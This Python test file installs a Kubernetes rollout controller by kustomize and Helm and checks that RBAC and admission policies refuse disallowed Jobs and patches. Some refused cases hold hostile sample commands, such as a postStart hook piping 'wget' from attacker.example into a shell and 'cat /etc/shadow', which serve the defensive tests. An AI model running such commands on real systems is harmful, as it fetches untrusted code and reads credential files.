"""What a cluster operator installs, both ways: `kubectl apply -k deploy/base` and the Helm chart.

The lab's nodes are simulated, so the image never runs here: what is proven is that the API server
accepts every object, that each ServiceAccount can do exactly what the code needs and a
representative set of what it must not (the same table for both install methods), and that the
workloads are shaped as documented. deploy/base is the chart rendered, which
tests/unit/deploy/test_rendered_manifests.py holds it to.
"""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from importlib import metadata
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes_asyncio import client
from kubernetes_asyncio.client.exceptions import ApiException

from edgerollout.domain.model import Condition, ConditionStatus, NodeName, PodUID
from edgerollout.domain.planning.prepull import PullJob
from edgerollout.domain.vocabulary import (
    MAX_UNAVAILABLE_ANNOTATION,
    PAUSED_ANNOTATION,
    PREPULL_LABEL,
    ROLLOUT_CONDITION,
    UPDATE_STRATEGY_ANNOTATION,
)
from edgerollout.kube.api import DAEMONSETS, MERGE, ApiError, KubeApi
from edgerollout.kube.manifests import pull_job_manifest, rollout_condition_patch
from edgerollout.settings import CONTROLLER as CONTROLLER_SETTINGS
from edgerollout_lab.api import api_client
from edgerollout_lab.cluster import Lab
from edgerollout_lab.kubeconfig import read_kubeconfig, write_kubeconfig
from tests.e2e.support.helm import BASE, CHART, helm, run
from tests.e2e.support.lab import lab_of_its_own

ROOT = Path(__file__).resolve().parents[2]
NAMESPACE = "edgerollout-system"
CONTROLLER = f"system:serviceaccount:{NAMESPACE}:edgerollout-controller"
AGENT = f"system:serviceaccount:{NAMESPACE}:edgerollout-agent"
RELEASE = "edgerollout"
# Where the release record lives; the chart creates (and owns) edgerollout-system itself.
RELEASE_NAMESPACE = "default"
VERSION = metadata.version("edgerollout")
SCHEMA_ERROR = "values don't meet the specifications of the schema(s) in the following chart(s):"


def _kubectl(
    kubeconfig: Path, *args: str, stdin: str | None = None
) -> subprocess.CompletedProcess[str]:
    kubectl = str(Path(sys.executable).parent / "kubectl")
    return run([kubectl, f"--kubeconfig={kubeconfig}", *args], stdin)


def _documents(text: str) -> list[dict[str, Any]]:
    return [doc for doc in yaml.safe_load_all(text) if doc]


def _kustomized() -> list[dict[str, Any]]:
    result = run([str(Path(sys.executable).parent / "kubectl"), "kustomize", str(BASE)])
    assert result.returncode == 0, result.stderr
    return _documents(result.stdout)


def _helm_template(*args: str) -> subprocess.CompletedProcess[str]:
    return helm("template", RELEASE, str(CHART), *args)


def _helm_release(command: str, kubeconfig: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`helm <command> RELEASE` (command: "install", "get manifest"...) on the lab, the release's
    record in RELEASE_NAMESPACE."""
    where = ("--namespace", RELEASE_NAMESPACE)
    return helm(*command.split(), RELEASE, *where, *args, kubeconfig=kubeconfig)


def _helm_install(kubeconfig: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return _helm_release("install", kubeconfig, str(CHART), *args)


def _charted(*args: str) -> list[dict[str, Any]]:
    result = _helm_template(*args)
    assert result.returncode == 0, result.stderr
    return _documents(result.stdout)


def _key(obj: dict[str, Any]) -> tuple[str, str, str, str]:
    meta = obj["metadata"]
    return (obj["apiVersion"], obj["kind"], meta.get("namespace", ""), meta["name"])


@dataclass(frozen=True)
class Installed:
    kubeconfig: Path
    objects: list[dict[str, Any]]
    dry_run: subprocess.CompletedProcess[str]


def _create_namespace_for_dry_run(lab: Lab, objects: list[dict[str, Any]]) -> None:
    # A server dry run creates nothing, so it cannot create the Namespace the other objects
    # go into: apply only the rendered Namespace first, then dry-run everything.
    namespace = next(obj for obj in objects if obj["kind"] == "Namespace")
    created = _kubectl(
        lab.kubeconfig, "apply", "--server-side", "-f", "-", stdin=yaml.safe_dump(namespace)
    )
    assert created.returncode == 0, created.stderr


def _install_with_kustomize(lab: Lab) -> Installed:
    objects = _kustomized()
    _create_namespace_for_dry_run(lab, objects)
    dry_run = _kubectl(
        lab.kubeconfig, "apply", "--server-side", "--dry-run=server", "-k", str(BASE)
    )
    applied = _kubectl(lab.kubeconfig, "apply", "--server-side", "-k", str(BASE))
    assert applied.returncode == 0, applied.stderr
    return Installed(lab.kubeconfig, objects, dry_run)


def _install_with_helm(lab: Lab) -> Installed:
    rendered = _helm_template()
    assert rendered.returncode == 0, rendered.stderr
    objects = _documents(rendered.stdout)
    _create_namespace_for_dry_run(lab, objects)
    dry_run = _kubectl(
        lab.kubeconfig,
        "apply",
        "--server-side",
        "--dry-run=server",
        "-f",
        "-",
        stdin=rendered.stdout,
    )
    # The release creates and owns the Namespace: remove the one made for the dry run.
    deleted = _kubectl(lab.kubeconfig, "delete", "namespace", NAMESPACE, "--wait=true")
    assert deleted.returncode == 0, deleted.stderr
    installed = _helm_install(lab.kubeconfig)
    assert installed.returncode == 0, installed.stderr
    return Installed(lab.kubeconfig, objects, dry_run)


@pytest.fixture(scope="module", params=["kustomize", "helm"])
def installed(
    tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest
) -> Iterator[Installed]:
    folder = tmp_path_factory.mktemp(f"deploy-{request.param}-lab")
    with lab_of_its_own(folder, nodes=2) as lab:
        install = _install_with_kustomize if request.param == "kustomize" else _install_with_helm
        installed = install(lab)
        _wait_for_controller_policies(installed)
        yield installed


def _controller_policies_in_force(installed: Installed) -> bool:
    """Whether the API server enforces each of the controller's admission policies yet: each
    refuses a dry run, as the controller, that only it refuses. A pull Job without its label; a
    delete of the controller's own pods (a ReplicaSet's, there once it has made them); a
    DaemonSet patch to paused "false"."""
    job = _pull_job()
    _unlabelled(job)
    jobs = _create_as_controller(installed, job)
    pods = _as_controller(
        installed,
        "delete",
        "pods",
        "-n",
        NAMESPACE,
        "-l",
        "app.kubernetes.io/name=edgerollout-controller",
    )
    unpause = {"metadata": {"annotations": {PAUSED_ANNOTATION: "false"}}}
    _, pause = asyncio.run(
        _patch_daemonset_as_controller(
            installed, unpause, name="edgerollout-agent", namespace=NAMESPACE, dry_run=True
        )
    )
    _, condition = asyncio.run(
        _patch_daemonset_as_controller(
            installed,
            _condition_patch(reason="Bogus"),
            name="edgerollout-agent",
            namespace=NAMESPACE,
            dry_run=True,
            status=True,
        )
    )
    return all(
        f"ValidatingAdmissionPolicy '{policy}'" in refusal
        for policy, refusal in [
            (CONTROLLER_POLICY, jobs.stderr),
            ("edgerollout-controller-daemon-pods", pods.stderr),
            (PAUSE_POLICY, pause),
            (CONDITION_POLICY, condition),
        ]
    )


def _wait_for_controller_policies(installed: Installed) -> None:
    # A policy reaches the API server's admission a moment after it is stored; until then the
    # controller's identity has all that RBAC grants, and a test of the policy would see that.
    deadline = time.monotonic() + 60
    while not _controller_policies_in_force(installed):
        if time.monotonic() > deadline:
            raise AssertionError("the controller's admission policies not in force after 60 s")
        time.sleep(0.5)


def _get(installed: Installed, kind: str, name: str) -> dict[str, Any]:
    result = _kubectl(installed.kubeconfig, "get", kind, name, "-n", NAMESPACE, "-o", "json")
    assert result.returncode == 0, result.stderr
    obj: dict[str, Any] = json.loads(result.stdout)
    return obj


def test_server_dry_run_accepts_every_object(installed: Installed) -> None:
    assert installed.dry_run.returncode == 0, installed.dry_run.stderr
    accepted = set()
    for line in installed.dry_run.stdout.splitlines():
        reference, _, outcome = line.partition(" ")
        assert outcome == "serverside-applied (server dry run)", line
        kind_and_group, _, name = reference.partition("/")
        accepted.add((kind_and_group.split(".")[0], name))
    expected = {(obj["kind"].lower(), obj["metadata"]["name"]) for obj in installed.objects}
    assert accepted == expected
    assert ("validatingadmissionpolicy", "edgerollout-agent-own-node") in accepted
    assert ("validatingadmissionpolicy", "edgerollout-controller-prepull-jobs") in accepted
    assert ("validatingadmissionpolicy", "edgerollout-controller-daemonset-pause") in accepted


@dataclass(frozen=True)
class Access:
    account: str
    verb: str
    resource: str
    namespace: str | None
    allowed: bool
    subresource: str | None = None

    @property
    def id(self) -> str:
        who = "controller" if self.account == CONTROLLER else "agent"
        what = f"{self.resource}/{self.subresource}" if self.subresource else self.resource
        where = self.namespace or "cluster"
        return f"{who}-{'may' if self.allowed else 'may-not'}-{self.verb}-{what}-in-{where}"


def _may(
    account: str, verb: str, resource: str, namespace: str | None = "default", **kw: Any
) -> Access:
    return Access(account, verb, resource, namespace, allowed=True, **kw)


def _may_not(
    account: str, verb: str, resource: str, namespace: str | None = "default", **kw: Any
) -> Access:
    return Access(account, verb, resource, namespace, allowed=False, **kw)


LEASE = "leases/edgerollout-controller"

ACCESS = [
    # The controller's caches, in any namespace (it may be limited to one with --namespace).
    *(
        _may(CONTROLLER, verb, resource)
        for resource in ("daemonsets", "pods", "controllerrevisions", "jobs")
        for verb in ("list", "watch")
    ),
    _may(CONTROLLER, "list", "nodes", None),
    _may(CONTROLLER, "watch", "nodes", None),
    # Its writes.
    _may(CONTROLLER, "delete", "pods"),
    _may(CONTROLLER, "patch", "pods", subresource="status"),
    _may(CONTROLLER, "create", "jobs"),
    _may(CONTROLLER, "delete", "jobs"),
    _may(CONTROLLER, "create", "events"),
    _may(CONTROLLER, "create", "leases", NAMESPACE),
    _may(CONTROLLER, "get", LEASE, NAMESPACE),
    _may(CONTROLLER, "update", LEASE, NAMESPACE),
    # The auto-pause (its admission policy admits only edgerollout.io/paused: "true").
    _may(CONTROLLER, "patch", "daemonsets"),
    # What it must not do.
    _may_not(CONTROLLER, "delete", "daemonsets"),
    _may_not(CONTROLLER, "update", "daemonsets"),
    _may(CONTROLLER, "patch", "daemonsets", subresource="status"),
    _may_not(CONTROLLER, "update", "daemonsets", subresource="status"),
    _may_not(CONTROLLER, "create", "pods"),
    _may_not(CONTROLLER, "update", "pods"),
    _may_not(CONTROLLER, "patch", "pods"),
    _may_not(CONTROLLER, "update", "pods", subresource="status"),
    _may_not(CONTROLLER, "get", "secrets"),
    _may_not(CONTROLLER, "list", "secrets"),
    _may_not(CONTROLLER, "patch", "nodes", None),
    _may_not(CONTROLLER, "delete", "nodes", None),
    _may_not(CONTROLLER, "create", "leases", "kube-system"),
    _may_not(CONTROLLER, "update", "leases/kube-controller-manager", "kube-system"),
    _may_not(CONTROLLER, "update", "leases/another-lease", NAMESPACE),
    _may_not(CONTROLLER, "delete", LEASE, NAMESPACE),
    _may_not(CONTROLLER, "update", "jobs"),
    _may_not(CONTROLLER, "create", "clusterrolebindings", None),
    # The agent: read pods, delete them and patch their status (the admission policy limits
    # both to its own node), read DaemonSets.
    _may(AGENT, "get", "pods"),
    _may(AGENT, "list", "pods"),
    _may(AGENT, "watch", "pods"),
    _may(AGENT, "delete", "pods"),
    _may(AGENT, "patch", "pods", subresource="status"),
    _may(AGENT, "get", "daemonsets"),
    # A Warning Event on its node while node scoping is not proven (design §8.3).
    _may(AGENT, "create", "events"),
    _may_not(AGENT, "create", "pods"),
    _may_not(AGENT, "update", "pods"),
    _may_not(AGENT, "list", "secrets"),
    _may_not(AGENT, "get", "secrets"),
    _may_not(AGENT, "update", "daemonsets"),
    _may_not(AGENT, "delete", "daemonsets"),
    _may_not(AGENT, "list", "nodes", None),
    _may_not(AGENT, "create", "jobs"),
    _may_not(AGENT, "create", "leases", NAMESPACE),
]


@pytest.mark.parametrize("access", ACCESS, ids=[access.id for access in ACCESS])
def test_service_account_may_do_exactly_what_the_code_needs(
    installed: Installed, access: Access
) -> None:
    args = ["auth", "can-i", access.verb, access.resource, f"--as={access.account}"]
    if access.subresource:
        args.append(f"--subresource={access.subresource}")
    if access.namespace:
        args += ["-n", access.namespace]
    result = _kubectl(installed.kubeconfig, *args)
    # `auth can-i` prints yes/no and exits 1 on "no"; anything else is an error.
    assert result.stdout.strip() == ("yes" if access.allowed else "no"), result.stderr


# The controller's Jobs: RBAC lets it create and delete Jobs; its admission policy admits only
# pre-pull Jobs of the shape the controller renders (design §10.9).

CONTROLLER_POLICY = "edgerollout-controller-prepull-jobs"


def _policy_message(rule: int, name: str = CONTROLLER_POLICY) -> str:
    (policy,) = (
        doc
        for doc in yaml.safe_load_all((BASE / "controller-policy.yaml").read_text())
        if doc["kind"] == "ValidatingAdmissionPolicy" and doc["metadata"]["name"] == name
    )
    message: str = policy["spec"]["validations"][rule]["message"]
    return message


def _pull_job(pod_name: str = "web-abcde", pod_uid: str = "0b3c1d2e") -> dict[str, Any]:
    """A pull Job as the controller renders it, with every optional part in use."""
    return pull_job_manifest(
        PullJob(
            namespace="default",
            name=f"edgerollout-pull-{pod_name}",
            pod_name=pod_name,
            pod_uid=PodUID(pod_uid),
            node_name=NodeName("edge-1"),
            revision="6b755b65dd",
            images=("nginx:1.25", "registry.example.com/app@sha256:" + "ab" * 32),
            tolerations=({"operator": "Exists"},),
            image_pull_secrets=("registry-credentials",),
            service_account="web",
            toolbox_image=CONTROLLER_SETTINGS.prepull.toolbox_image,
            deadline_seconds=120,
        )
    )


def _pod_spec_of(job: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = job["spec"]["template"]["spec"]
    return spec


def _unlabelled(job: dict[str, Any]) -> None:
    # The Job's labels default to its template's: both go.
    del job["metadata"]["labels"], job["spec"]["template"]["metadata"]["labels"]


def _labelled_for_another_pod(job: dict[str, Any]) -> None:
    for meta in (job["metadata"], job["spec"]["template"]["metadata"]):
        meta["labels"][PREPULL_LABEL] = "another-pod"


def _privileged(job: dict[str, Any]) -> None:
    for container in _pod_spec_of(job)["containers"]:
        container["securityContext"] = {"privileged": True}


def _host_path(job: dict[str, Any]) -> None:
    spec = _pod_spec_of(job)
    spec["volumes"].append({"name": "root", "hostPath": {"path": "/"}})
    spec["containers"][0]["volumeMounts"].append({"name": "root", "mountPath": "/host"})


def _host_network(job: dict[str, Any]) -> None:
    _pod_spec_of(job)["hostNetwork"] = True


def _service_account_token(job: dict[str, Any]) -> None:
    del _pod_spec_of(job)["automountServiceAccountToken"]


def _secret_in_env(job: dict[str, Any]) -> None:
    secret = {"secretKeyRef": {"name": "registry-credentials", "key": ".dockerconfigjson"}}
    _pod_spec_of(job)["containers"][0]["env"] = [{"name": "CONFIG", "valueFrom": secret}]


def _added_capability(job: dict[str, Any]) -> None:
    _pod_spec_of(job)["containers"][0]["securityContext"]["capabilities"]["add"] = ["NET_ADMIN"]


def _a_shell(job: dict[str, Any]) -> None:
    _pod_spec_of(job)["containers"][0]["command"] = ["sh", "-c", "cat /etc/shadow"]


def _another_toolbox(job: dict[str, Any]) -> None:
    _pod_spec_of(job)["initContainers"][0]["image"] = "registry.example.com/attacker/busybox:1"


def _unmounted_toolbox(job: dict[str, Any]) -> None:
    # The image's own /edgerollout-pull/busybox would run instead of the toolbox's.
    del _pod_spec_of(job)["containers"][0]["volumeMounts"]


def _writable_toolbox(job: dict[str, Any]) -> None:
    _pod_spec_of(job)["containers"][0]["volumeMounts"][0]["readOnly"] = False


def _post_start_hook(job: dict[str, Any]) -> None:
    hook = {"exec": {"command": ["/bin/sh", "-c", "wget -qO- http://attacker.example/x | sh"]}}
    _pod_spec_of(job)["containers"][0]["lifecycle"] = {"postStart": hook}


def _readiness_probe(job: dict[str, Any]) -> None:
    probe = {"exec": {"command": ["/bin/sh", "-c", "cat /etc/shadow"]}}
    _pod_spec_of(job)["containers"][0]["readinessProbe"] = probe


def _sidecar(job: dict[str, Any]) -> None:
    init = _pod_spec_of(job)["initContainers"]
    init.append({**init[0], "name": "sidecar", "restartPolicy": "Always"})


def _cluster_dns_in_kube_system(job: dict[str, Any]) -> None:
    # The cluster DNS Service selects k8s-app: kube-dns in kube-system.
    job["metadata"]["namespace"] = "kube-system"
    job["spec"]["template"]["metadata"]["labels"]["k8s-app"] = "kube-dns"


APPARMOR_ANNOTATION = "container.apparmor.security.beta.kubernetes.io/pull-0"


def _template_annotation(job: dict[str, Any]) -> None:
    job["spec"]["template"]["metadata"]["annotations"] = {APPARMOR_ANNOTATION: "unconfined"}


def _many_pods(job: dict[str, Any]) -> None:
    job["spec"]["parallelism"] = job["spec"]["completions"] = 500


def _a_ten_day_deadline(job: dict[str, Any]) -> None:
    job["spec"]["activeDeadlineSeconds"] = 864000


def _runtime_class(job: dict[str, Any]) -> None:
    _pod_spec_of(job)["runtimeClassName"] = "privileged-runtime"


def _node_affinity(job: dict[str, Any]) -> None:
    names = {"key": "metadata.name", "operator": "In", "values": ["control-plane"]}
    node = {"nodeSelectorTerms": [{"matchFields": [names]}]}
    _pod_spec_of(job)["affinity"] = {
        "nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": node}
    }


def _unconfined_apparmor(job: dict[str, Any]) -> None:
    context = _pod_spec_of(job)["containers"][0]["securityContext"]
    context["appArmorProfile"] = {"type": "Unconfined"}


def _root_group(job: dict[str, Any]) -> None:
    _pod_spec_of(job)["securityContext"]["supplementalGroups"] = [0]


def _selinux_level(job: dict[str, Any]) -> None:
    _pod_spec_of(job)["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}


def _a_larger_limit(job: dict[str, Any]) -> None:
    _pod_spec_of(job)["containers"][0]["resources"]["limits"] = {"cpu": "4", "memory": "8Gi"}


def _a_sub_path(job: dict[str, Any]) -> None:
    _pod_spec_of(job)["containers"][0]["volumeMounts"][0]["subPath"] = "elsewhere"


# What kubectl prints before the refusal, for the changes the API server also warns about.
WARNED: dict[Callable[[dict[str, Any]], None], str] = {
    _template_annotation: f"Warning: spec.template.metadata.annotations[{APPARMOR_ANNOTATION}]: "
    'deprecated since v1.30; use the "appArmorProfile" field instead\n'
}
# Each change to the rendered Job, and the policy's rule (its index) that refuses it.
REFUSED_JOBS = [
    pytest.param(_unlabelled, 0, id="unlabelled"),
    pytest.param(_labelled_for_another_pod, 0, id="labelled-for-a-pod-that-does-not-own-it"),
    pytest.param(_cluster_dns_in_kube_system, 1, id="kube-system-with-the-cluster-dns-label"),
    pytest.param(_template_annotation, 1, id="pod-annotation"),
    pytest.param(_many_pods, 1, id="500-pods"),
    pytest.param(_a_ten_day_deadline, 1, id="a-ten-day-deadline"),
    pytest.param(_host_path, 2, id="host-path-volume"),
    pytest.param(_host_network, 2, id="host-network"),
    pytest.param(_service_account_token, 2, id="service-account-token"),
    pytest.param(_runtime_class, 2, id="runtime-class"),
    pytest.param(_node_affinity, 2, id="node-affinity"),
    pytest.param(_privileged, 3, id="privileged"),
    pytest.param(_added_capability, 3, id="added-capability"),
    pytest.param(_unconfined_apparmor, 3, id="apparmor-unconfined"),
    pytest.param(_root_group, 3, id="root-supplemental-group"),
    pytest.param(_selinux_level, 3, id="selinux-options"),
    pytest.param(_a_shell, 4, id="a-shell-instead-of-busybox-true"),
    pytest.param(_secret_in_env, 4, id="secret-in-env"),
    pytest.param(_another_toolbox, 4, id="another-toolbox-image"),
    pytest.param(_unmounted_toolbox, 4, id="the-images-own-busybox"),
    pytest.param(_writable_toolbox, 4, id="toolbox-mounted-writable"),
    pytest.param(_a_sub_path, 4, id="toolbox-sub-path"),
    pytest.param(_post_start_hook, 4, id="post-start-hook"),
    pytest.param(_readiness_probe, 4, id="readiness-probe"),
    pytest.param(_sidecar, 4, id="sidecar-init-container"),
    pytest.param(_a_larger_limit, 4, id="larger-limits"),
]


def _create_as_controller(
    installed: Installed, job: dict[str, Any]
) -> subprocess.CompletedProcess[str]:
    return _kubectl(
        installed.kubeconfig,
        "create",
        "--dry-run=server",
        f"--as={CONTROLLER}",
        "-o",
        "name",
        "-f",
        "-",
        stdin=json.dumps(job),
    )


def _denied(resource: str, rule: int, policy: str = CONTROLLER_POLICY) -> str:
    return (
        f"{resource} is forbidden: ValidatingAdmissionPolicy '{policy}' with binding "
        f"'{policy}' denied request: {_policy_message(rule, policy)}"
    )


def test_controller_identity_may_create_the_pull_job_it_renders(installed: Installed) -> None:
    job = _pull_job()

    created = _create_as_controller(installed, job)

    assert (created.returncode, created.stderr) == (0, "")
    assert created.stdout == f"job.batch/{job['metadata']['name']}\n"


@pytest.mark.parametrize(("change", "rule"), REFUSED_JOBS)
def test_controller_identity_may_not_create_any_other_job(
    installed: Installed, change: Callable[[dict[str, Any]], None], rule: int
) -> None:
    job = _pull_job()
    change(job)

    refused = _create_as_controller(installed, job)

    assert (refused.returncode, refused.stdout) == (1, "")
    name = job["metadata"]["name"]
    assert refused.stderr == (
        WARNED.get(change, "")
        + 'Error from server (Forbidden): error when creating "STDIN": '
        + _denied(f'jobs.batch "{name}"', rule)
        + "\n"
    )


def test_controller_identity_may_delete_pull_jobs_only(installed: Installed) -> None:
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "web-abcde", "namespace": "default"},
        "spec": {"nodeName": "edge-1", "containers": [{"name": "web", "image": "nginx:1.25"}]},
    }
    created = _kubectl(
        installed.kubeconfig, "create", "-f", "-", "-o", "json", stdin=json.dumps(pod)
    )
    assert created.returncode == 0, created.stderr
    uid = json.loads(created.stdout)["metadata"]["uid"]
    # Owned by the live pod, so the garbage collector leaves it be; and a Job of someone else's.
    pull = _pull_job(pod_uid=uid)
    other = _kubectl(
        installed.kubeconfig, "create", "job", "backup", "--image=busybox", "--", "true"
    )
    assert other.returncode == 0, other.stderr
    made = _kubectl(installed.kubeconfig, "create", "-f", "-", stdin=json.dumps(pull))
    assert made.returncode == 0, made.stderr
    try:
        as_controller = ("delete", "--dry-run=server", f"--as={CONTROLLER}", "job")
        deleted = _kubectl(installed.kubeconfig, *as_controller, pull["metadata"]["name"])
        refused = _kubectl(installed.kubeconfig, *as_controller, "backup")

        assert (deleted.returncode, deleted.stderr) == (0, "")
        assert deleted.stdout == (
            f'job.batch "{pull["metadata"]["name"]}" deleted from default namespace (server dry run)\n'
        )
        assert (refused.returncode, refused.stdout) == (1, "")
        denied = _denied('jobs.batch "backup"', 0)
        assert refused.stderr == f"Error from server (Forbidden): {denied}\n"
    finally:
        cleaned = _kubectl(
            installed.kubeconfig, "delete", "job", "backup", pull["metadata"]["name"], "--wait=true"
        )
        assert cleaned.returncode == 0, cleaned.stderr
        cleaned = _kubectl(installed.kubeconfig, "delete", "pod", "web-abcde", "--wait=true")
        assert cleaned.returncode == 0, cleaned.stderr


def _daemon_pod(installed: Installed) -> str:
    """A DaemonSet's pod in default (the lab's simulated nodes run it): its name."""
    daemonset = {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": "web", "namespace": "default"},
        "spec": {
            "selector": {"matchLabels": {"app": "web"}},
            "template": {
                "metadata": {"labels": {"app": "web"}},
                "spec": {"containers": [{"name": "web", "image": "nginx:1.25"}]},
            },
        },
    }
    made = _kubectl(installed.kubeconfig, "create", "-f", "-", stdin=json.dumps(daemonset))
    assert made.returncode == 0, made.stderr
    for _ in range(100):
        listed = _kubectl(installed.kubeconfig, "get", "pods", "-l", "app=web", "-o", "name")
        if listed.stdout:
            return listed.stdout.split()[0].removeprefix("pod/")
        time.sleep(0.1)
    raise AssertionError("the DaemonSet made no pod within 10 s")


def _as_controller(installed: Installed, *args: str) -> subprocess.CompletedProcess[str]:
    return _kubectl(installed.kubeconfig, *args, "--dry-run=server", f"--as={CONTROLLER}")


def _controller_kubeconfig(installed: Installed) -> Path:
    """A kubeconfig with a token of the controller's ServiceAccount: its requests exactly, where
    kubectl would read the object first, which the controller may not."""
    token = _kubectl(
        installed.kubeconfig, "create", "token", "edgerollout-controller", "-n", NAMESPACE
    )
    assert token.returncode == 0, token.stderr
    admin = read_kubeconfig(installed.kubeconfig)
    return write_kubeconfig(
        installed.kubeconfig.with_name("controller.kubeconfig"),
        server=admin.server,
        ca_file=admin.ca_file,
        user=CONTROLLER,
        token=token.stdout.strip(),
    )


async def _patch_status_as_controller(
    installed: Installed, pod: str, patches: list[dict[str, Any]]
) -> list[tuple[int, str]]:
    """Each patch of the pod's status, dry-run, as the controller: (200, "") or the refusal's
    (code, message)."""
    kubeconfig = _controller_kubeconfig(installed)
    answers = []
    async with api_client(kubeconfig) as api:
        core = client.CoreV1Api(api)
        for patch in patches:
            try:
                await core.patch_namespaced_pod_status(pod, "default", patch, dry_run="All")
            except ApiException as error:
                answers.append((error.status, json.loads(error.body or b"{}")["message"]))
            else:
                answers.append((200, ""))
    return answers


def test_controller_identity_may_delete_and_mark_daemon_pods_only(installed: Installed) -> None:
    loose = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "loose", "namespace": "default"},
        "spec": {"nodeName": "edge-1", "containers": [{"name": "web", "image": "nginx:1.25"}]},
    }
    made = _kubectl(installed.kubeconfig, "create", "-f", "-", stdin=json.dumps(loose))
    assert made.returncode == 0, made.stderr
    try:
        daemon = _daemon_pod(installed)

        deleted = _as_controller(installed, "delete", "pod", daemon)
        refused = _as_controller(installed, "delete", "pod", "loose")
        mark: dict[str, Any] = {
            "status": {"conditions": [{"type": "PodNeedUpgrade", "status": "True"}]}
        }
        # Each a status update that changes something besides its two conditions: the DaemonSet
        # controller replaces a Failed pod outside any budget; a finalizer leaves a pod stuck
        # Terminating.
        patches: list[dict[str, Any]] = [
            mark,
            {"status": {"conditions": [{"type": "Ready", "status": "False"}]}},
            {"metadata": {"labels": {"app": "other"}}},
            {"metadata": {"finalizers": ["example.com/hold"]}},
            {"status": {"phase": "Failed"}},
            {"status": {"message": "drained", "reason": "Evicted"}},
            {"status": {"startTime": "2020-01-01T00:00:00Z"}},
            {**mark, "metadata": {"annotations": {"example.com/note": "x"}}},
        ]
        marked, *others = asyncio.run(_patch_status_as_controller(installed, daemon, patches))
        [loose_marked] = asyncio.run(_patch_status_as_controller(installed, "loose", [mark]))

        assert (deleted.returncode, deleted.stderr) == (0, "")
        assert deleted.stdout == f'pod "{daemon}" deleted from default namespace (server dry run)\n'
        assert marked == (200, "")
        policy = "edgerollout-controller-daemon-pods"
        denied = (
            f"is forbidden: ValidatingAdmissionPolicy '{policy}' with binding '{policy}' "
            "denied request: "
        )
        assert (refused.returncode, refused.stdout) == (1, "")
        assert refused.stderr == (
            f'Error from server (Forbidden): pods "loose" {denied}'
            "the edgerollout controller may only delete pods controlled by a DaemonSet\n"
        )
        only_conditions = (
            "the edgerollout controller's status update may only change the PodNeedUpgrade and "
            "PodImageReady conditions of a pod controlled by a DaemonSet: not its metadata, "
            "another condition or any other status field"
        )
        assert others == [(403, f'pods "{daemon}" {denied}{only_conditions}')] * len(others)
        assert loose_marked == (403, f'pods "loose" {denied}{only_conditions}')
    finally:
        for kind, name in (("daemonset", "web"), ("pod", "loose")):
            cleaned = _kubectl(installed.kubeconfig, "delete", kind, name, "--wait=true")
            assert cleaned.returncode == 0, cleaned.stderr


# The controller's one DaemonSet write, the auto-pause on failure (design §13.4): RBAC lets it
# patch DaemonSets; its admission policy admits only edgerollout.io/paused set to "true".

PAUSE_POLICY = "edgerollout-controller-daemonset-pause"
PAUSABLE = "pausable"
PAUSE: dict[str, Any] = {"metadata": {"annotations": {PAUSED_ANNOTATION: "true"}}}


@contextmanager
def _pausable_daemonset(installed: Installed, paused: str | None = None) -> Iterator[None]:
    """A DaemonSet in default with labels and annotations of its own (and `paused`, if given),
    deleted afterwards."""
    annotations = {
        UPDATE_STRATEGY_ANNOTATION: "AdvancedRollingUpdate",
        MAX_UNAVAILABLE_ANNOTATION: "10%",
    }
    if paused is not None:
        annotations[PAUSED_ANNOTATION] = paused
    daemonset = {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {
            "name": PAUSABLE,
            "namespace": "default",
            "labels": {"app": PAUSABLE, "tier": "edge"},
            "annotations": annotations,
        },
        "spec": {
            "selector": {"matchLabels": {"app": PAUSABLE}},
            "updateStrategy": {"type": "OnDelete"},
            "template": {
                "metadata": {"labels": {"app": PAUSABLE}},
                "spec": {"containers": [{"name": "web", "image": "nginx:1.25"}]},
            },
        },
    }
    made = _kubectl(installed.kubeconfig, "create", "-f", "-", stdin=json.dumps(daemonset))
    assert made.returncode == 0, made.stderr
    try:
        yield
    finally:
        cleaned = _kubectl(installed.kubeconfig, "delete", "daemonset", PAUSABLE, "--wait=true")
        assert cleaned.returncode == 0, cleaned.stderr


def _stored_daemonset(installed: Installed) -> dict[str, Any]:
    """The DaemonSet as stored, without what the native DaemonSet controller writes as its pods
    come and go: its status, and with it resourceVersion (kubectl leaves out managedFields)."""
    result = _kubectl(
        installed.kubeconfig, "get", "daemonset", PAUSABLE, "-n", "default", "-o", "json"
    )
    assert result.returncode == 0, result.stderr
    stored: dict[str, Any] = json.loads(result.stdout)
    del stored["status"], stored["metadata"]["resourceVersion"]
    return stored


async def _patch_daemonset_as_controller(
    installed: Installed,
    patch: dict[str, Any],
    *,
    name: str = PAUSABLE,
    namespace: str = "default",
    dry_run: bool = False,
    status: bool = False,
) -> tuple[int, str]:
    """A patch of a DaemonSet through the controller's own client, as it sends them: a merge
    patch of the DaemonSet (the auto-pause), or with `status` a strategic merge patch of its
    status (the rollout condition). (200, "") or the refusal's (code, message)."""
    api = await KubeApi.connect(str(_controller_kubeconfig(installed)))
    try:
        if status:
            await api.patch(
                DAEMONSETS, name, patch, namespace=namespace, subresource="status", dry_run=dry_run
            )
        else:
            await api.patch(
                DAEMONSETS, name, patch, namespace=namespace, content_type=MERGE, dry_run=dry_run
            )
    except ApiError as error:
        return error.status, error.message
    finally:
        await api.close()
    return 200, ""


# The controller's rollout condition (design §9.2): RBAC lets it patch daemonsets/status; its
# admission policy admits a change of that one condition, holding a phase, and nothing else.

CONDITION_POLICY = "edgerollout-controller-daemonset-condition"


def _condition_patch(
    *, reason: str = "Rolling", kind: str = ROLLOUT_CONDITION, **status: Any
) -> dict[str, Any]:
    """A status patch as the controller's (`rollout_condition_patch`, without the UID
    precondition), of a condition `kind` with `reason`, and more `status` fields."""
    condition = Condition(
        type=kind,
        status=ConditionStatus.TRUE,
        reason=reason,
        message="1 of 3 nodes updated, 0 offline, 0 broken, 0 held, 2 to go (generation 1)",
        last_transition_time="2026-11-28T10:00:00Z",
    )
